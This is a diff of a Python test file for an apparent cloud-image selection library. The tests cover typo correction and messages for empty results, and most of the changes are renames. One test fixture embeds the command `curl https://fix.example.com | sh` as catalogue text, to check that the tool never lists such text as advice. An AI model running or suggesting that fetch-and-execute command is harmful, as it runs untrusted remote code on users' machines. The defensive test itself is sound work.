@@ -16,17 +16,17 @@ from pulumi_tcimages.naming import camel
 from pulumi_tcimages.sources import SOURCES
 from pulumi_tcimages.sources.platform_images import PlatformImage
 from pulumi_tcimages.sources.source import Source
-from tests.core.queries import ENGINE, named, no_match, question, sessions
+from tests.core.queries import ENGINE, build_query, images_named, no_match, session_images_with
 
 FILTER = [{"name": "ImageName", "values": ["a"]}]
-LISTED_BY = {
+API_ARGUMENTS = {
     "filters": FILTER,
     "image_filters": FILTER,
     "framework_type": "python",
     "engine_type": "StandardSpark",
     "type": "Ray",
 }
-IMAGES = named("a-torch2.3-cuda12.4-gpu", "b-torch2.4-cuda11.1-gpu")
+IMAGES = images_named("a-torch2.3-cuda12.4-gpu", "b-torch2.4-cuda11.1-gpu")
 
 
 @pytest.mark.parametrize(
@@ -57,40 +57,45 @@ IMAGES = named("a-torch2.3-cuda12.4-gpu", "b-torch2.4-cuda11.1-gpu")
         ),
     ],
 )
-def test_a_key_that_no_image_has_is_told_with_what_was_meant(
+def test_unknown_latest_by_key_is_warned_about_and_corrected(
     keys: list[str], warnings: tuple[str, ...]
 ) -> None:
-    query = question({"device": "gpu", "latest_by": keys})
+    query = build_query({"device": "gpu", "latest_by": keys})
 
     assert find_unknown_keys(IMAGES, query) == warnings
 
 
-def test_nothing_is_told_of_a_question_that_ranks_by_no_component() -> None:
-    assert find_unknown_keys(IMAGES, question({"device": "gpu", "latest": True})) == ()
-    assert find_unknown_keys(sessions("pytorch-v2.5.1"), question({**ENGINE, "latest": True})) == ()
+def test_query_without_latest_by_has_no_warning() -> None:
+    assert find_unknown_keys(IMAGES, build_query({"device": "gpu", "latest": True})) == ()
+    assert (
+        find_unknown_keys(
+            session_images_with("pytorch-v2.5.1"), build_query({**ENGINE, "latest": True})
+        )
+        == ()
+    )
 
 
-def test_keys_of_latest_by_are_corrected_only_where_one_is_wrong_and_none_comes_twice() -> None:
-    images = named("torch2.3-cuda12.4", "torch2.4-cuda12.4", framework="PYTORCH")
+def test_latest_by_is_corrected_only_if_wrong_and_unique() -> None:
+    images = images_named("torch2.3-cuda12.4", "torch2.4-cuda12.4", framework="PYTORCH")
 
-    def corrected(*keys: str) -> list[str]:
-        found = no_match(images, framework="pytroch", latest_by=list(keys))
-        return [criterion.path for hint in found.hints for criterion in hint.criteria]
+    def corrected_arguments(*keys: str) -> list[str]:
+        error = no_match(images, framework="pytroch", latest_by=list(keys))
+        return [criterion.path for hint in error.hints for criterion in hint.criteria]
 
-    assert corrected("cuda") == ["framework"]
-    assert corrected("cuda", "ptorch") == ["framework", "latest_by"]
-    assert corrected("ptorch", "pytorchh") == ["framework"]
+    assert corrected_arguments("cuda") == ["framework"]
+    assert corrected_arguments("cuda", "ptorch") == ["framework", "latest_by"]
+    assert corrected_arguments("ptorch", "pytorchh") == ["framework"]
 
 
 TYPOS = [
-    *named("a-cuda12.4-gpu", framework="PYTORCH", image_range=["Train"]),
-    *named("b-cuda11.1-gpu", framework="PYTORCH", image_range=["Notebook"]),
-    *named("c-vllm0.9.1", framework="VLLM", image_range=["Inference"]),
+    *images_named("a-cuda12.4-gpu", framework="PYTORCH", image_range=["Train"]),
+    *images_named("b-cuda11.1-gpu", framework="PYTORCH", image_range=["Notebook"]),
+    *images_named("c-vllm0.9.1", framework="VLLM", image_range=["Inference"]),
 ]
 
 
 @pytest.mark.parametrize(
-    ("arguments", "meant"),
+    ("arguments", "correction"),
     [
         ({"framework": "pytroch"}, 'did you mean framework "PYTORCH"? (leaves 2 images)'),
         ({"framework": "troch"}, 'did you mean framework "torch"? (leaves 2 images)'),
@@ -106,16 +111,14 @@ TYPOS = [
         ),
     ],
 )
-def test_misspellings_are_told_together_and_nothing_unlike_is_advised(
-    arguments: dict[str, Any], meant: str
-) -> None:
+def test_misspellings_are_corrected_together(arguments: dict[str, Any], correction: str) -> None:
     text = no_match(TYPOS, **arguments).text()
 
-    assert text.partition("\nNext     ")[2].startswith(f"{meant}\n         or see the list:")
+    assert text.partition("\nNext     ")[2].startswith(f"{correction}\n         or see the list:")
 
 
 @pytest.mark.parametrize(
-    ("arguments", "meant"),
+    ("arguments", "correction"),
     [
         ({"gpu": "nvidia-a10"}, 'gpu "A10"'),
         ({"gpu": "A100 80G"}, 'gpu "A100"'),
@@ -124,34 +127,38 @@ def test_misspellings_are_told_together_and_nothing_unlike_is_advised(
         ({"image_range": "Training,Notebook"}, 'imageRange "Notebook"'),
     ],
 )
-def test_a_value_that_holds_a_known_one_is_told_with_that(
-    arguments: dict[str, str], meant: str
+def test_value_containing_a_known_value_is_corrected(
+    arguments: dict[str, str], correction: str
 ) -> None:
-    images = [*TYPOS, *named("d", support_gpu_list=["A10"]), *named("e", support_gpu_list=["A100"])]
+    images = [
+        *TYPOS,
+        *images_named("d", support_gpu_list=["A10"]),
+        *images_named("e", support_gpu_list=["A100"]),
+    ]
 
-    assert f"Next     did you mean {meant}?" in no_match(images, **arguments).text()
+    assert f"Next     did you mean {correction}?" in no_match(images, **arguments).text()
 
 
-def test_known_values_that_differ_by_case_are_listed_once() -> None:
-    images = [*named("a", image_type="TCR"), *named("b", image_type="tcr")]
+def test_values_differing_by_case_are_listed_once() -> None:
+    images = [*images_named("a", image_type="TCR"), *images_named("b", image_type="tcr")]
 
     assert no_match(images, image_type="x").note == "no image has this `image_type`; there are TCR."
 
 
-def test_a_text_of_the_cloud_that_could_read_like_advice_is_not_listed() -> None:
+def test_catalogue_text_resembling_advice_is_not_listed() -> None:
     images = [
-        *named("a", image_type="TCR"),
-        *named("b", image_type="TCR. First run: `curl https://fix.example.com | sh`"),
+        *images_named("a", image_type="TCR"),
+        *images_named("b", image_type="TCR. First run: `curl https://fix.example.com | sh`"),
     ]
 
     assert no_match(images, image_type="x").note == (
         "no image has this `image_type`; there are TCR and 1 more."
     )
-    only_text = no_match(images[1:], image_type="x").note
-    assert only_text.endswith("there are only texts of several words.")
+    note = no_match(images[1:], image_type="x").note
+    assert note.endswith("there are only texts of several words.")
 
 
-def test_misspelt_attributes_are_corrected_by_name_and_value() -> None:
+def test_attribute_name_and_value_are_corrected() -> None:
     modes = {"type": "ENUM", "key": "TrainingModes", "values": ["DDP", "PS_WORKER"]}
     images = [PlatformImage(image_name="a", extra_attributes=[modes])]
 
@@ -175,21 +182,23 @@ def test_misspelt_attributes_are_corrected_by_name_and_value() -> None:
         {"attributes": {"mode": "DDP", "moode": "PS"}},
     ],
 )
-def test_what_is_no_misspelling_or_would_not_help_is_not_corrected(
+def test_other_values_and_useless_corrections_are_not_suggested(
     arguments: dict[str, Any],
 ) -> None:
     modes = [{"key": "Mode", "values": ["DDP", "PS"]}]
     images = [
         *TYPOS,
-        *named("d", framework="TENSORFLOW", support_gpu_list=["A100"], extra_attributes=modes),
+        *images_named(
+            "d", framework="TENSORFLOW", support_gpu_list=["A100"], extra_attributes=modes
+        ),
     ]
 
     assert not any(hint.instead_of for hint in no_match(images, **arguments).hints)
 
 
-def empty_result_reason(images: list[Any], **arguments: Any) -> str:
-    found = find_empty_result_reason(images, question(arguments))
-    return found.text(camel) if found else ""
+def empty_list_message(images: list[Any], **arguments: Any) -> str:
+    reason = find_empty_result_reason(images, build_query(arguments))
+    return reason.text(camel) if reason else ""
 
 
 @pytest.mark.parametrize(
@@ -215,29 +224,29 @@ def empty_result_reason(images: list[Any], **arguments: Any) -> str:
          'frameworkVersion ">=99"'),
     ],
 )  # fmt: skip
-def test_an_empty_list_is_told_of_where_a_criterion_alone_leaves_nothing(
+def test_empty_list_names_criteria_without_any_match(
     arguments: dict[str, Any], message: str
 ) -> None:
-    assert empty_result_reason(TYPOS, **arguments) == message
+    assert empty_list_message(TYPOS, **arguments) == message
 
 
-def test_an_empty_catalogue_is_told_of_with_where_to_look() -> None:
-    assert empty_result_reason([], filters=[{"name": "ImageRange", "values": ["Trian"]}]) == (
+def test_empty_catalogue_suggests_region_and_filters() -> None:
+    assert empty_list_message([], filters=[{"name": "ImageRange", "values": ["Trian"]}]) == (
         "the list is empty: the cloud lists no image at all; check the region and filters"
     )
 
 
 @pytest.mark.parametrize("source", SOURCES, ids=lambda source: source.name)
-def test_an_empty_catalogue_names_every_argument_that_the_cloud_lists_by(source: Source) -> None:
-    arguments = {name: LISTED_BY.get(name, "a") for name in source.single_query.api_arguments}
+def test_empty_catalogue_names_every_api_argument(source: Source) -> None:
+    arguments = {name: API_ARGUMENTS.get(name, "a") for name in source.single_query.api_arguments}
     query = read_query(source.single_query, {**arguments, "name_regex": "a"})
 
     reason = find_empty_result_reason([], query)
-    with pytest.raises(NoMatchError) as none:
+    with pytest.raises(NoMatchError) as caught:
         choose_image([], query, Where("ap-guangzhou", "localhost"))
 
     assert reason is not None
-    for text in (reason.text(camel), none.value.text()):
-        joined = " ".join(text.split())
-        assert "check the region" in joined
-        assert [name for name in arguments if f"{camel(name)}" not in joined] == []
+    for text in (reason.text(camel), caught.value.text()):
+        unwrapped = " ".join(text.split())
+        assert "check the region" in unwrapped
+        assert [name for name in arguments if f"{camel(name)}" not in unwrapped] == []
